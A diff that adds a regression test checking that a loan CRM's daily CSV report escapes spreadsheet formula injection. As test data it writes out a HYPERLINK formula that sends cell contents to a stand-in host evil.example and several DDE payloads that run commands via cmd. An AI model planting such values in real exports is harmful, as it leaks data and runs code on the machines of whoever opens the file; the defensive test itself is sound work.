@@ -48,3 +48,36 @@ def test_empty_day_writes_a_header_only_report(client):
 def test_schedule_is_declared(app):
     product = app.crm_product
     assert product.schedules == {"daily_followups": "cron(30 2 * * ? *)"}
+
+
+def test_the_report_never_writes_a_formula(world, client):
+    """Names, comments and phones people typed were written as is: `=HYPERLINK(...)` and DDE
+    (`=cmd|...`) cells ran in the spreadsheet of whoever opened the report (issue 5)."""
+    from chalicelib.core import aws
+    from chalicelib.core.config import get_settings
+    from chalicelib.products.repaysync import reports
+    from tests.repaysync.conftest import customer_body, loan_body
+
+    admin = world.as_("admin")
+    name = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
+    customer = world.http.post("/api/customers/", customer_body(
+        name=name, phone="+91-9876543299", email="evil@example.com", customer_code="EVIL1",
+        assigned_collection_officer=world.users["officer"].id), admin)
+    assert customer.status_code == 201, customer.body
+    loan = world.http.post("/api/loans/", loan_body(customer.json_body["id"], loan_account_number="LN-EVIL"), admin)
+    assert loan.status_code == 201, loan.body
+    today = reports.today().isoformat()
+    comments = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1", "plain"]
+    for comment in comments:
+        created = world.http.post("/api/interactions/field/create/", {
+            "loan": loan.json_body["id"], "comment": comment, "disposition": "visited", "next_call_date": today},
+            world.as_("officer"))
+        assert created.status_code == 201, created.body
+    assert reports.write_followups()["rows"] == len(comments)
+    body = aws.s3().get_object(Bucket=get_settings().bucket, Key=f"reports/followups/{today}.csv")["Body"].read()
+    rows = list(csv.DictReader(io.StringIO(body.decode())))
+    assert sorted(row["comment"] for row in rows) == sorted(
+        "'" + comment if comment[0] in "=+-@" else comment for comment in comments)
+    assert {row["customer_name"] for row in rows} == {"'" + name}
+    assert {row["customer_phone"] for row in rows} == {"'+91-9876543299"}
+    assert all(row["interaction_id"].isdigit() and row["loan_id"].isdigit() for row in rows)  # numbers stay numbers
